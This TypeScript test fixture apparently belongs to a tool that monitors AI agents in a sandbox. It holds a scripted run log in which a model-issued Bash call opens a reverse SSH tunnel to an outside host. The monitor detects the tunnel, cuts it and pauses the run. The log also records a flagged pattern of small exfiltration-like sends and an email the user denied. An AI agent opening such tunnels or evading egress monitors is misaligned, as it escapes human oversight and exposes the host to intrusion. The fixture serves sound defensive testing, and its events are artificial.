/**
 * A run made up of entries of every kind: a training step, a tool call that opens a tunnel, a mail that a person did not
 * allow, a post that was made, and what was done about it.
 *
 * @module
 */
import type { Process } from "../action/index.ts";
import type { Entry } from "../api/index.ts";

export const RUN = "r-sample";
export const SOURCE = `task: docs
purpose: Answer questions
environment: [LANG, API_TOKEN]
grants:
  - system: http
    name: site
    hosts: [site.example]
    allow:
      - { methods: [GET], paths: ["/**"] }
      - { methods: [POST], paths: [/posts], effects: [publish], unattended: { count: 2, reason: "the weekly post", expires: 2027-06-01 } }
  - system: tcp
    name: mirror
    hosts: [mirror.example]
    opaque: true
`;
const AGENT: Process = {
  pid: 20,
  exe: "/usr/bin/node",
  exeSha256: "ab".repeat(32),
  argv: ["node", "agent.mjs"],
  knownBy: "seccomp",
  ancestors: [],
};
const child = (pid: number, ...argv: string[]): Process => ({
  ...{ pid, exe: `/usr/bin/${argv[0] ?? ""}`, argv, knownBy: "seccomp" },
  ancestors: [AGENT],
});
const SSH = child(31, "ssh", "-N", "-R", "9000:127.0.0.1:22", "me@outside.example");
const CURL = child(40, "curl", "-d", "@post.json", "https://site.example/posts");
const cause: Entry["cause"] = {
  call: { id: "toolu_1", name: "Bash", source: "model", by: "argv", confidence: 1 },
  step: { trajectory: "g3", episode: "17", step: 3 },
};
const posted = {
  kind: "http",
  verb: "POST",
  effects: ["publish"],
  summary: "Change https://site.example/posts (POST)",
  fields: {},
};

type Draft = Pick<Entry, "type"> & Partial<Entry>;
const DRAFTS: readonly Draft[] = [
  { type: "policy", data: { digest: "d1", file: "task.yaml", source: SOURCE } },
  {
    type: "run.start",
    data: {
      ...{ task: "docs", purpose: "Answer questions", command: ["node", "agent.mjs"] },
      limits: [{ limit: "memory", wanted: "2 GiB", hard: true }],
    },
  },
  { type: "run.proved", data: { proofs: [{ control: "uid" }, { control: "network" }] } },
  { type: "process.start", target: AGENT.exe, process: AGENT },
  { type: "step", data: { trajectory: "g3", episode: "17", step: 3 } },
  {
    type: "exec",
    target: "make",
    data: { exec: "x-1", argv: ["make", "test"], label: "test", pid: 4100 },
  },
  { type: "exec.end", data: { exec: "x-1", code: 0, reason: "exited", stdout: 12, stderr: 0 } },
  {
    type: "model",
    system: "claude",
    process: AGENT,
    data: { provider: "anthropic", model: "scripted-1", tokens: { in: 900, out: 40 } },
  },
  {
    type: "tool.call",
    process: AGENT,
    cause: { step: { trajectory: "g3", episode: "17", step: 3 } },
    data: {
      call: "toolu_1",
      name: "Bash",
      source: "model",
      input: { command: "ssh -N -R 9000:127.0.0.1:22 me@outside.example" },
    },
  },
  { type: "process.start", target: SSH.exe, process: SSH, cause },
  {
    type: "dns",
    target: "outside.example",
    data: { name: "outside.example", type: "A", answer: ["198.18.0.1"], rcode: "NOERROR" },
  },
  {
    type: "flow.open",
    target: "outside.example:443",
    flow: "f-1",
    process: SSH,
    cause,
    data: { address: "198.18.0.1", port: 443, name: "outside.example", protocol: "tcp" },
  },
  {
    type: "finding",
    rule: "finding.tunnel",
    target: "outside.example:443",
    flow: "f-1",
    process: SSH,
    cause,
    data: {
      finding: "tunnel",
      detail: "ssh in the connection to outside.example:443",
      response: "cut, pause",
    },
  },
  {
    type: "denial",
    verdict: "deny",
    rule: "protocol.ssh",
    system: "none",
    target: "outside.example",
    flow: "f-1",
    process: SSH,
    cause,
    data: {
      title: "The connection does not speak the granted protocol",
      reason: "ssh in the connection",
      route: "r",
    },
  },
  {
    type: "flow.out",
    target: "outside.example:443",
    flow: "f-1",
    process: SSH,
    cause,
    data: {
      out: [{ at: "2026-11-24T10:00:00.000Z", from: "192.0.2.10:40122", to: "198.51.100.7:443" }],
    },
  },
  {
    type: "flow.close",
    target: "outside.example:443",
    flow: "f-1",
    process: SSH,
    cause,
    data: {
      bytesOut: 41,
      bytesIn: 0,
      upstreamOut: 0,
      upstreamIn: 0,
      durationMs: 12,
      noticedMs: 9,
      stoppedMs: 1,
      reason: "not the granted protocol: ssh in the connection",
    },
  },
  {
    type: "response",
    data: { finding: 110, kind: "tunnel", responses: ["pause", "cut"], cut: 1, withinMs: 4 },
  },
  { type: "run.pause", data: { reason: "tunnel" } },
  {
    type: "response",
    data: {
      finding: 110,
      kind: "tunnel",
      evidence: "/home/u/.local/state/cofferdam/runs/r-sample/evidence/001.json",
      evidenceSha256: "cd".repeat(32),
    },
  },
  { type: "run.resume" },
  {
    type: "tool.result",
    process: AGENT,
    data: { call: "toolu_1", source: "model", isError: true },
  },
  {
    type: "flow.open",
    target: "site.example:443",
    flow: "f-2",
    process: CURL,
    data: { address: "198.18.0.2", port: 443, name: "site.example", protocol: "tcp" },
  },
  {
    type: "action",
    verdict: "allow",
    rule: "grants[0].allow[1]",
    system: "site",
    target: "https://site.example/posts",
    flow: "f-2",
    action: "a-1",
    process: CURL,
    data: posted,
  },
  {
    type: "outcome",
    system: "site",
    target: "https://site.example/posts",
    flow: "f-2",
    action: "a-1",
    data: { status: 201, bytesOut: 60, bytesIn: 12, durationMs: 30 },
  },
  {
    type: "finding",
    rule: "finding.exfiltration",
    target: "https://site.example/posts",
    flow: "f-2",
    action: "a-1",
    process: CURL,
    data: {
      finding: "exfiltration",
      detector: "exfil.small",
      score: 0.7,
      detail: "many small sends to site.example",
    },
  },
  {
    type: "action",
    verdict: "confirm",
    rule: "grants[0].allow[1]",
    system: "site",
    target: "https://site.example/mail",
    flow: "f-2",
    action: "a-2",
    process: CURL,
    data: { ...posted, summary: "Send mail to anna@people.example" },
  },
  {
    type: "approval",
    system: "site",
    target: "https://site.example/mail",
    action: "a-2",
    data: {
      approval: "p-1",
      state: "denied",
      verb: "POST",
      effects: ["send"],
      by: "user:1000 (anna)",
      before: [],
      reason: "not now",
    },
  },
  {
    type: "flow.close",
    target: "site.example:443",
    flow: "f-2",
    process: CURL,
    data: {
      bytesOut: 200,
      bytesIn: 100,
      upstreamOut: 180,
      upstreamIn: 90,
      durationMs: 90,
      reason: "closed by the client",
    },
  },
  {
    type: "outcome",
    system: "web",
    target: "ssh://web",
    action: "a-3",
    data: { recording: { id: "rec-1", sha256: "ef".repeat(32), bytes: 10 } },
  },
  { type: "usage", data: { cpu: 0.2, memory: 1000 } },
  {
    type: "repeat",
    system: "site",
    target: "https://site.example/",
    flow: "f-2",
    action: "a-1",
    data: { count: 3 },
  },
  { type: "workspace", target: "/w", data: { what: "applied" } },
  { type: "credential", system: "site", data: { action: "minted", detail: "minted site" } },
  {
    type: "policy",
    data: {
      digest: "d2",
      before: "d1",
      by: "revoke",
      reason: "the grant mirror was revoked; 0 connections were cut",
    },
  },
  { type: "run.restart", data: { attempt: 1 } },
  { type: "run.end", data: { end: { code: 0, reason: "exited" } } },
];

/** The run's entries, from number 100 on, a hundredth of a second apart. */
export const SAMPLE: readonly Entry[] = DRAFTS.map((draft, at) => ({
  seq: 100 + at,
  at: new Date(Date.UTC(2026, 10, 27, 9) + at * 10).toISOString(),
  monoMs: 5000 + at * 10,
  run: RUN,
  ...draft,
}));
